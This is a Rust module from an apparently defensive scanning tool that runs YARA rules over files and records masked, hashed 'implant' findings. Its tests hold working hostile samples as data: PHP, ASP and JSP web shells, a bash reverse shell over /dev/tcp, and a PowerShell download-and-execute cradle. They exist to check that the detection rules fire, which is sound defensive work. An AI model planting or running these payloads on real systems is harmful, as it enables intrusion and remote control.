//! YARA rules beside the detectors: implants, web shells and tools in the same pass.
//!
//! Rules are compiled once, before a scan, from rule texts the caller has read (this
//! crate does no IO, so `include` directives are refused with a clear error). Compiled
//! rules are shared by every worker; each object's raw bytes are scanned once, and each
//! matching rule becomes one [`Finding`] of category `implant` whose detector id is the
//! rule's name. The matched bytes are masked like a secret and hashed with the
//! installation key, never kept raw. The engine is boreal: pure Rust, no JIT, YARA 4 rule
//! syntax with the `hash`, `math`, `pe`, `elf`, `macho`, `dotnet`, `dex`, `time` and
//! `string` modules.

use leakscope_core::{mask_value, Category, Confidence, Finding, HashKey, MaskStyle, RawValue};
use std::collections::BTreeMap;

/// The built-in rules (`--yara builtin`), documented in `docs/yara.md`.
pub const BUILTIN: &str = include_str!("../yara/builtin.yar");

/// The origin name of the built-in rules in messages.
pub const BUILTIN_ORIGIN: &str = "builtin:implants.yar";

/// One rule text to compile, with where it came from.
#[derive(Debug, Clone)]
pub struct YaraSource {
    /// A file path, or [`BUILTIN_ORIGIN`].
    pub origin: String,
    /// The rule text.
    pub text: String,
}

/// Why rules did not compile.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct YaraError(String);

/// What a rule says about itself, printed beside its findings.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct YaraRuleMeta {
    /// The rule's `meta:` entries, in order (`description`, `author`, `reference` …).
    pub meta: Vec<(String, String)>,
    /// The rule's tags.
    pub tags: Vec<String>,
}

/// Compiled rules, shared by all workers.
pub struct YaraRules {
    scanner: boreal::Scanner,
    key: HashKey,
    rules: BTreeMap<String, YaraRuleMeta>,
}

/// Most bytes of a match kept for its mask and hash.
const MATCH_BYTES: usize = 256;

impl YaraRules {
    /// Compiles `sources` in order, each in a namespace of its own (two files may then use
    /// the same rule name). The first error is returned with its file, line and column.
    pub fn compile(sources: &[YaraSource], key: HashKey) -> Result<YaraRules, YaraError> {
        let mut compiler = boreal::Compiler::new();
        for (i, source) in sources.iter().enumerate() {
            let namespace = format!("ns{i}");
            compiler
                .add_rules_str_in_namespace(&source.text, &namespace)
                .map_err(|e| {
                    YaraError(boreal::compiler::generate_description(
                        &e.to_diagnostic(),
                        &source.origin,
                        &source.text,
                    ))
                })?;
        }
        let mut scanner = compiler.finalize();
        // A hostile object must not hold a worker forever on a pathological rule.
        scanner.set_scan_params(
            boreal::scanner::ScanParams::default()
                .timeout_duration(Some(std::time::Duration::from_secs(60)))
                .string_max_nb_matches(100),
        );
        let mut rules = BTreeMap::new();
        for r in scanner.rules() {
            let meta = r
                .metadatas
                .iter()
                .map(|m| {
                    let name = scanner.get_string_symbol(m.name).to_string();
                    let value = match m.value {
                        boreal::MetadataValue::Bytes(b) => {
                            String::from_utf8_lossy(scanner.get_bytes_symbol(b)).into_owned()
                        }
                        boreal::MetadataValue::Integer(n) => n.to_string(),
                        boreal::MetadataValue::Boolean(b) => b.to_string(),
                    };
                    (name, value)
                })
                .collect();
            let tags = r
                .tags
                .iter()
                .map(|t| scanner.get_string_symbol(*t).to_string())
                .collect();
            rules.insert(r.name.to_string(), YaraRuleMeta { meta, tags });
        }
        Ok(YaraRules {
            scanner,
            key,
            rules,
        })
    }

    /// How many rules were compiled.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// True when no rule was compiled.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Each rule's name with its meta and tags.
    pub fn rules(&self) -> &BTreeMap<String, YaraRuleMeta> {
        &self.rules
    }

    /// Runs every rule over `bytes`; each matching rule adds one finding at its longest
    /// string match (offset 0 and an empty value for a rule that matched on its condition
    /// alone). A scan cut short by the time limit keeps what matched so far and says so.
    pub fn scan(&self, bytes: &[u8], out: &mut Vec<Finding>) -> Result<(), YaraError> {
        let (result, error) = match self.scanner.scan_mem(bytes) {
            Ok(r) => (r, None),
            Err((e, r)) => (r, Some(YaraError(format!("YARA scan stopped: {e:?}")))),
        };
        for rule in result.rules.iter().filter(|r| r.matched) {
            // The most telling match: the longest string matched, at its first place (a
            // two-byte `<?` says less than the call it guards).
            let first = rule
                .matches
                .iter()
                .flat_map(|s| s.matches.first())
                .max_by_key(|m| (m.length, std::cmp::Reverse(m.offset)));
            let (start, data) = match first {
                Some(m) => (m.offset, &m.data[..m.data.len().min(MATCH_BYTES)]),
                None => (0, &[][..]),
            };
            let text = String::from_utf8_lossy(data).into_owned();
            let len = first.map_or(0, |m| m.length);
            out.push(Finding {
                detector: rule.name.into(),
                category: Category::Implant,
                confidence: Confidence::High,
                start,
                end: start + len,
                line: None,
                field: None,
                masked: mask_value(&text, MaskStyle::Ends),
                value_hash: self.key.hash(&format!("yara:{}", rule.name), &hex(data)),
                raw: RawValue::new(text),
            });
        }
        match error {
            Some(e) => Err(e),
            None => Ok(()),
        }
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn compile(text: &str) -> Result<YaraRules, YaraError> {
        YaraRules::compile(
            &[YaraSource {
                origin: "t.yar".into(),
                text: text.into(),
            }],
            HashKey::insecure_test_key(),
        )
    }

    #[test]
    fn builtin_rules_compile_and_catch_their_shapes() {
        let rules = YaraRules::compile(
            &[YaraSource {
                origin: BUILTIN_ORIGIN.into(),
                text: BUILTIN.into(),
            }],
            HashKey::insecure_test_key(),
        )
        .unwrap();
        assert!(rules.len() >= 6);
        let cases: [(&[u8], &str); 6] = [
            (
                b"<?php @eval($_POST['cmd']); ?>",
                "webshell_php_request_eval",
            ),
            (
                b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>",
                "webshell_asp_request_eval",
            ),
            (
                b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
                "webshell_jsp_request_exec",
            ),
            (
                b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "implant_script_reverse_shell",
            ),
            (
                b"powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')",
                "implant_download_cradle",
            ),
            (
                b"\x7fELF\x02\x01\x01\0socket\0connect\0dup2\0/bin/sh\0",
                "implant_elf_reverse_shell",
            ),
        ];
        for (bytes, rule) in cases {
            let mut out = Vec::new();
            rules.scan(bytes, &mut out).unwrap();
            let ids: Vec<&str> = out.iter().map(|f| f.detector.as_str()).collect();
            assert_eq!(ids, [rule], "{}", String::from_utf8_lossy(bytes));
            assert_eq!(out[0].category, Category::Implant);
        }
        for clean in [
            &b"<?php echo htmlspecialchars($_POST['name']); ?>"[..],
            b"#!/bin/sh\nexec /usr/bin/app \"$@\"\n",
            b"\x7fELF\x02\x01\x01\0printf\0malloc\0",
            b"curl -fsSL https://example.com/install.sh -o install.sh",
        ] {
            let mut out = Vec::new();
            rules.scan(clean, &mut out).unwrap();
            assert!(
                out.is_empty(),
                "{}: {out:?}",
                String::from_utf8_lossy(clean)
            );
        }
    }

    #[test]
    fn meta_and_tags_are_kept_and_matches_masked() {
        let rules = compile(
            "rule t : apt implant { meta: description = \"demo\" author = \"me\" score = 7 strings: $a = \"secret-marker-123\" condition: $a }",
        )
        .unwrap();
        let meta = &rules.rules()["t"];
        assert_eq!(meta.tags, ["apt", "implant"]);
        assert_eq!(meta.meta[0], ("description".into(), "demo".into()));
        assert_eq!(meta.meta[2], ("score".into(), "7".into()));
        let mut out = Vec::new();
        rules.scan(b"xx secret-marker-123 yy", &mut out).unwrap();
        assert_eq!((out[0].start, out[0].end), (3, 20));
        assert_ne!(out[0].masked, "secret-marker-123");
    }

    #[test]
    fn a_compile_error_names_file_line_and_column() {
        let err =
            compile("rule ok { condition: true }\nrule bad { strings: $a = \"x\" condition: $b }")
                .err()
                .unwrap()
                .to_string();
        assert!(err.starts_with("t.yar:2:"), "{err}");
    }
}
